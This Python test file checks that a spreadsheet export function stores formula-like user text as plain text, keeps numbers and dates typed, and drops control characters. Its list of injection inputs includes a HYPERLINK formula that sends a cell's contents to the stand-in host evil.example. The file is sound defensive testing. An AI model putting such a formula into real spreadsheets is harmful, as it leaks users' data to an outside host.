"""Every cell written from user text is text, whatever it starts with; real
numbers and dates stay numbers and dates. Read back with openpyxl."""

import datetime
import io
import zipfile

from openpyxl import load_workbook

from fou.core.xlsx import table_workbook

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?d="&A2,"Klicka här")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def read_back(data: bytes):
    return load_workbook(io.BytesIO(data)).active


def test_text_that_looks_like_a_formula_stays_text():
    data = table_workbook(
        title="Test", columns=[("Titel", 40), ("Belopp", 12)], rows=[[t, 1] for t in DANGEROUS]
    )
    sheet = read_back(data)
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in cells] == DANGEROUS
    assert all(cell.data_type == "s" for cell in cells)
    # Shown as text in Excel even when the cell is edited: the quote prefix.
    assert all(cell.quotePrefix for cell in cells)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()


def test_numbers_and_dates_stay_numbers_and_dates():
    day = datetime.datetime(2027, 3, 1, 9, 30)
    data = table_workbook(
        title="Test",
        columns=[("Belopp", 12), ("Datum", 12), ("Titel", 20)],
        rows=[[-400_000, day, "Vanlig text"]],
    )
    amount, moment, title = next(read_back(data).iter_rows(min_row=2))
    assert (amount.value, amount.data_type) == (-400_000, "n")
    assert (moment.value, moment.is_date) == (day, True)
    assert (title.value, title.data_type, title.quotePrefix) == ("Vanlig text", "s", False)


def test_characters_excel_cannot_hold_are_dropped_not_a_crash():
    data = table_workbook(title="Test", columns=[("Titel", 20)], rows=[["Före\x01efter"]])
    assert read_back(data)["A2"].value == "Föreefter"
